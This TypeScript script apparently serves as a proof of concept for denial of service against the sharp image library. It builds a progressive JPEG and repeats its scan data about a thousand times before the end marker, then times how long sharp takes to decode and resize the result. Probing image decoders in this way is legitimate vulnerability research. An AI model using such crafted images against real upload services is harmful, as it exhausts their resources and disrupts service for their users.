import sharp from 'sharp';
// segments of a JPEG
function segments(jpeg: Buffer) {
  const out: { marker: number; start: number; end: number }[] = [];
  let i = 2;
  while (i < jpeg.length) {
    if (jpeg[i] !== 0xff) throw new Error('bad at ' + i);
    const marker = jpeg[i + 1]!;
    if (marker === 0xd9) { out.push({ marker, start: i, end: i + 2 }); break; }
    const len = jpeg.readUInt16BE(i + 2);
    let end = i + 2 + len;
    if (marker === 0xda) {
      while (!(jpeg[end] === 0xff && jpeg[end + 1] !== 0 && !(jpeg[end + 1]! >= 0xd0 && jpeg[end + 1]! <= 0xd7))) end++;
    }
    out.push({ marker, start: i, end });
    i = end;
  }
  return out;
}
const w = Number(process.argv[2] ?? 4000), h = Number(process.argv[3] ?? 3000), reps = Number(process.argv[4] ?? 1000);
const noise = await sharp({ create: { width: w, height: h, channels: 3, background: 'gray', noise: { type: 'gaussian', mean: 128, sigma: 60 } } }).jpeg({ progressive: true, quality: 90 }).toBuffer();
const segs = segments(noise);
const scans = segs.filter((s) => s.marker === 0xda);
console.log('size', noise.length, 'scans', scans.length, scans.map((s) => s.end - s.start));
const pick = { start: scans[0]!.start, end: scans.at(-1)!.end };
const body = noise.subarray(pick.start, pick.end);
const eoi = segs.at(-1)!;
const crafted = Buffer.concat([noise.subarray(0, eoi.start), ...Array(reps).fill(body), noise.subarray(eoi.start)]);
console.log('crafted', crafted.length);
const t = performance.now();
try { const r = await sharp(crafted, { failOn: 'error' }).resize(2400, 2400, { fit: 'inside' }).raw().toBuffer({ resolveWithObject: true }); console.log(r.info); } catch (e) { console.log('err', (e as Error).message); }
console.log('ms', performance.now() - t);
